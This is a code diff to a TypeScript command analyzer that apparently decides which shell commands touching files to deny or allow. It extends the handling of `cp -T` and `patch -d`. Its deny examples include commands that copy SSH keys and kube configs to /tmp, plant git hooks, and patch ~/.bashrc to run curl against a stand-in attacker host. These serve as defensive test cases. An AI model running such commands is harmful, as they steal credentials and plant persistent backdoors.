@@ -266,7 +266,9 @@ function copyLike(call: Call, spec: OptionSpec, sourceRole: (recursive: boolean)
   // A computed source whose name starts with a literal (`/boot/config-$(uname -r)`) lands under that prefix only.
   const anyName = (w: Word) => (w.values === null ? /^["']?[$`]/.test(w.text.replace(/\/+$/, '').split('/').at(-1) ?? '') : w.values.some((v) => /(?:^|\/)\.\/*$|[*?[]/.test(v)));
   // Without recursion cp copies the matched files only, each directly into the destination: one level deep.
-  if (dest && call.program !== 'ln' && sources.some(anyName)) uses.push({ word: dest, role: 'extract', ...(call.program === 'cp' && !recursive ? { depth: 1 } : {}) });
+  // -T makes the destination the source itself: a directory's contents land in it (`cp -rT dotfiles ~`).
+  const contents = has(p, 'T', 'no-target-directory') && (recursive || call.program === 'mv');
+  if (dest && call.program !== 'ln' && (sources.some(anyName) || contents)) uses.push({ word: dest, role: 'extract', ...(call.program === 'cp' && !recursive ? { depth: 1 } : {}) });
   else if (call.program === 'ln' && ops.length === 1) uses.push({ word: ops[0]!, role: 'write', values: ['.'], into: baseOf(ops[0]!) });
   // A source that is the stdin (`cp /dev/stdin f`) copies what the command reads.
   const fromStdin = sources.some((w) => /^\/(dev\/stdin|dev\/fd\/0|proc\/self\/fd\/0)$/.test(value(w) ?? ''));
@@ -738,6 +740,9 @@ function patchCall(call: Call): Partial<Answer> {
   if (ops[0]) uses.push({ word: ops[0], role: 'read' }, ...(output || dry ? [] : [{ word: ops[0], role: 'write' as const }]));
   if (ops[1]) uses.push({ word: ops[1], role: 'read' });
   // No file named: the diff names the files it patches. Read from stdin as static text, those names are written.
+  // Read from a file or a stream, the diff's names are not known: beneath -d DIR, as an archive's beneath tar -C.
+  const into = p.options.find((o) => o.name === 'd' || o.name === 'directory')?.value;
+  if (!ops[0] && !output && !dry && into && (input || call.stdin?.kind !== 'static')) uses.push({ word: into, role: 'extract' });
   if (!ops[0] && !input && !output && !dry && call.stdin?.kind === 'static') {
     const dir = p.options.find((o) => o.name === 'd' || o.name === 'directory');
     const base = dir?.value ? value(dir.value) : '';
@@ -1472,7 +1477,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     },
     examples: { deny: ['fallocate -p -o 0 -l 1M .git/objects/pack/pack-1.pack', 'fallocate -l 1G ~/.bashrc'], pass: ['fallocate -l 1G disk.img', 'fallocate -d build/disk.img'] },
   },
-  { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ["cp /usr/bin/curl ./cat; PATH=.:$PATH cat evil.example", "cp /usr/bin/curl /tmp/b/ls && export PATH=/tmp/b; ls evil.example", 'cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~'], pass: ["cp /usr/bin/cat ./c; PATH=.:$PATH ls", 'cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
+  { names: ['cp', 'gcp'], summary: 'cp: reads its sources (whole trees with -r), writes its destination', analyze: (call) => copyLike(call, CP, (r) => (r ? 'read-tree' : 'read'), ['r', 'R', 'a', 'recursive', 'archive']), examples: { deny: ['cp -rT dotfiles ~', "cp /usr/bin/curl ./cat; PATH=.:$PATH cat evil.example", "cp /usr/bin/curl /tmp/b/ls && export PATH=/tmp/b; ls evil.example", 'cp -r ~/.kube /tmp/k', 'cp ~/.ssh/id_rsa /tmp/x', 'cp evil.sh .git/hooks/pre-commit', 'cp .bashrc ~'], pass: ['cp -rT dotfiles build/out', "cp /usr/bin/cat ./c; PATH=.:$PATH ls", 'cp .env.example .env', 'cp -r src /tmp/src', 'cp ~/.bashrc ~/.bashrc.bak', '[ -f .env ] || cp .env.example .env'] } },
   { names: ['mv', 'gmv'], summary: 'mv: moves its sources (their content goes where the destination is)', analyze: (call) => movesSources(copyLike(call, { ...CP, flags: 'bfinTuvZ' }, () => 'read', [])), examples: { deny: ['mv ~/.ssh/id_rsa /tmp/x', 'mv ~ /tmp/x', 'mv hook .git/hooks/post-checkout'], pass: ['mv a.txt b.txt'] } },
   { names: ['install', 'ginstall'], summary: 'install: copies its sources to its destination', analyze: (call) => copyLike(call, { ...CP, flags: 'bcCdDpsvZ', valued: 'gmoStT', longValued: ['group', 'mode', 'owner', 'suffix', 'target-directory', 'strip-program'] }, () => 'read', []), examples: { deny: ['install -m 755 hook .git/hooks/pre-push', 'install -m 755 build/git /usr/local/bin/git'], pass: ['install -m 755 build/app dist/bin/app', 'install -D -m 644 config.toml out/etc/app/config.toml'] } },
   {
@@ -1511,8 +1516,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     summary: 'patch: writes the file it patches (or -o), reads the patch; a diff on stdin names the files it writes',
     analyze: patchCall,
     examples: {
-      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt', 'patch -b -B ~/.bash rc fix.diff'],
-      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff', 'patch -b -B old/ rc fix.diff'],
+      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt', 'patch -b -B ~/.bash rc fix.diff', 'patch -d ~ -p1 < x.patch', 'patch -d ~ -p1 -i x.patch'],
+      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff', 'patch -b -B old/ rc fix.diff', 'patch -d vendor/pkg -p1 < x.patch', 'patch -d ~ -p1 --dry-run < x.patch'],
     },
   },
   {
